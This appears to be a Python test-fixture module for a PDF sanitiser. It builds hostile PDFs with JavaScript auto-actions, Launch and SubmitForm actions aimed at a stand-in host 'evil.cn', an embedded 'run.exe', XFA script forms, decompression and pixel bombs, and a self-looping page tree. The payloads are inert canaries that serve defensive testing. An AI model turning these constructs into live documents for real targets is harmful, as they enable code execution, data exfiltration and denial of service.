"""PDFs for tests: such as people send, and such as only somebody hostile would."""

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.files.samples import CANARY, photo, pixel_bomb

MARK = "canary"
BOX = [0, 0, 595, 842]


def paper(change: Callable[[Pdf], None] | None = None, *, pages: int = 1, **saving: Any) -> bytes:
    """Return a PDF of some pages, which ``change`` has made worse."""
    made = pikepdf.new()
    for number in range(pages):
        made.add_blank_page(page_size=(595, 842))
        made.pages[number].Contents = made.make_stream(
            b"0 0 10 10 re f % page " + str(number).encode()
        )
    if change:
        change(made)
    kept = io.BytesIO()
    made.save(kept, compress_streams=False, static_id=True, **saving)
    return kept.getvalue()


def script(words: str = MARK) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{words}')"))


def runs_when_opened(made: Pdf) -> None:
    made.Root.OpenAction = script()
    made.Root.AA = Dictionary(WC=script())
    made.pages[0].AA = Dictionary(O=script())
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), made.make_indirect(script())]))
    )


def acts_when_pressed(made: Pdf) -> None:
    where = Dictionary(Type=Name.Filespec, F=String(f"//evil.cn/{MARK}"))
    actions = [
        script(),
        Dictionary(S=Name.Launch, F=where),
        Dictionary(S=Name.SubmitForm, F=where),
        Dictionary(S=Name.ImportData, F=where),
        Dictionary(S=Name.GoToR, F=where, D=Array([0, Name.Fit])),
        Dictionary(S=Name.GoToE, F=where),
        Dictionary(S=Name.URI, URI=String(f"https://evil.cn/{MARK}")),
    ]
    notes = [
        made.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array(BOX), A=action)
        )
        for action in actions
    ]
    made.pages[0].Annots = Array(notes)
    made.Root.Outlines = made.make_indirect(Dictionary(First=Dictionary(A=actions[0])))


def holds_files(made: Pdf) -> None:
    kept = made.make_stream(MARK.encode(), Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=kept))
    made.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("run.exe"), spec])))
    made.Root.AF = Array([spec])
    made.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array(BOX), FS=spec)]
    )


def tells_of_people(made: Pdf) -> None:
    made.docinfo["/Author"] = String(CANARY)
    made.docinfo["/Creator"] = String(f"{MARK} camera")
    made.Root.Metadata = made.make_stream(f"<x>{MARK}</x>".encode(), Type=Name.Metadata)
    made.pages[0].Metadata = made.make_stream(MARK.encode(), Type=Name.Metadata)
    made.pages[0].PieceInfo = Dictionary(App=Dictionary(Private=String(MARK)))
    made.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Text, T=String(MARK), Contents=String(MARK))]
    )
    shown = made.make_stream(photo(), Type=Name.XObject, Subtype=Name.Image, Width=120, Height=80)
    shown.ColorSpace, shown.BitsPerComponent, shown.Filter = Name.DeviceRGB, 8, Name.DCTDecode
    shown.Metadata = made.make_stream(MARK.encode(), Type=Name.Metadata)
    packed = made.make_stream(zlib.compress(photo()), Subtype=Name.Image, Width=120, Height=80)
    packed.ColorSpace, packed.BitsPerComponent = Name.DeviceRGB, 8
    packed.Filter = Array([Name.FlateDecode, Name.DCTDecode])
    packed.DecodeParms = Array([Dictionary(), Dictionary(ColorTransform=1)])
    made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=shown, Im1=packed))


def hides_in_resources(made: Pdf) -> None:
    program = made.make_stream(MARK.encode(), Type=Name.XObject, Subtype=Name.PS)
    elsewhere = made.make_stream(b"", F=String(f"//evil.cn/{MARK}"))
    made.pages[0].Resources = Dictionary(
        XObject=Dictionary(A=program, B=elsewhere),
        Properties=Dictionary(P=Dictionary(Next=script(), AF=Array([String(MARK)]))),
        ExtGState=Dictionary(G=made.make_indirect(script())),
    )


def is_a_program_form(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(
        XFA=made.make_stream(f"<script>{MARK}</script>".encode()), Fields=Array([])
    )


def is_a_moving_form(made: Pdf) -> None:
    is_a_program_form(made)
    made.Root.NeedsRendering = True


def field(made: Pdf, words: str, **more: Any) -> Dictionary:
    one = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("name"),
        V=String(words),
        F=4,
        Rect=Array([10, 10, 200, 40]),
        AA=Dictionary(K=script()),
        **more,
    )
    made.Root.AcroForm = Dictionary(Fields=Array([]))
    made.pages[0].Annots = Array([made.make_indirect(one)])
    made.Root.AcroForm.Fields.append(made.pages[0].Annots[0])
    return one


def is_filled_in(made: Pdf) -> None:
    drawing = made.make_stream(
        b"0 0 190 30 re f % filled", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 190, 30]
    )
    field(made, "路灯不亮", AP=Dictionary(N=drawing))


def is_filled_in_undrawn(made: Pdf) -> None:
    field(made, "路灯不亮")


def is_filled_in_anew(made: Pdf) -> None:
    is_filled_in(made)
    made.Root.AcroForm.NeedAppearances = True


def zeros(megabytes: int) -> bytes:
    packer, one = zlib.compressobj(1), b"\0" * 1_000_000
    return b"".join(packer.compress(one) for _ in range(megabytes)) + packer.flush()


def swells(made: Pdf) -> None:
    made.pages[0].Contents = made.make_stream(zeros(600), Filter=Name.FlateDecode)


def swells_twice(made: Pdf) -> None:
    made.pages[0].Contents = made.make_stream(
        zlib.compress(zeros(600), 9), Filter=Array([Name.FlateDecode, Name.FlateDecode])
    )


def swells_otherwise(made: Pdf) -> None:
    made.pages[0].Contents = made.make_stream(
        zlib.compress(b"\x81\0" * 1_000_000, 9),
        Filter=Array([Name.FlateDecode, Name.RunLengthDecode]),
    )


def is_a_wall(made: Pdf) -> None:
    shown = made.make_stream(pixel_bomb(), Subtype=Name.Image, Width=200_000, Height=200_000)
    made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=shown))


def has_many_parts(made: Pdf) -> None:
    made.pages[0].Resources = Dictionary(
        Properties=Dictionary(
            {f"/P{number}": made.make_indirect(Dictionary()) for number in range(101_000)}
        )
    )


def locked(owner: str, user: str) -> bytes:
    return paper(encryption=pikepdf.Encryption(owner=owner, user=user))


def lasting_loop() -> bytes:
    """Return a PDF whose list of pages holds itself."""
    whole = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    whole += b"2 0 obj\n<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>\nendobj\n"
    return whole + b"trailer\n<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF\n"


def deep() -> bytes:
    """Return a PDF with a part within a part, a hundred thousand times."""
    nest = b"[" * 100_000 + b"]" * 100_000
    whole = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X " + nest + b">>\nendobj\n"
    return whole + b"trailer\n<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF\n"


BARED: dict[str, Callable[[Pdf], None]] = {
    "runs when it is opened": runs_when_opened,
    "acts when it is pressed": acts_when_pressed,
    "holds files": holds_files,
    "tells of people": tells_of_people,
    "hides it in its resources": hides_in_resources,
    "is a form with a program": is_a_program_form,
    "is filled in": is_filled_in,
}

REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "is locked": (lambda: locked("a", "b"), "password"),
    "is cut off": (lambda: paper()[:-20], "cannot be read"),
    "is damaged": (lambda: b"%PDF-1.7\nnothing\n%%EOF\n", "cannot be read"),
    "has no page": (lambda: paper(pages=0), "cannot be read"),
    "is its own list of pages": (lasting_loop, "cannot be read"),
    "is a part in a part in a part": (deep, "cannot be read"),
    "is a form that only one viewer draws": (lambda: paper(is_a_moving_form), "filled in"),
    "is filled in and not drawn": (lambda: paper(is_filled_in_undrawn), "filled in"),
    "is to be drawn anew": (lambda: paper(is_filled_in_anew), "filled in"),
    "unpacks to 600 MB": (lambda: paper(swells), "too large"),
    "unpacks to 600 MB in two steps": (lambda: paper(swells_twice), "too large"),
    "unpacks to 128 MB in another way": (lambda: paper(swells_otherwise), "too large"),
    "has a picture of 40 thousand million points": (lambda: paper(is_a_wall), "too large"),
    "has a hundred thousand parts": (lambda: paper(has_many_parts), "too large"),
    "has a thousand pages and one": (lambda: paper(pages=1_001), "too large"),
}
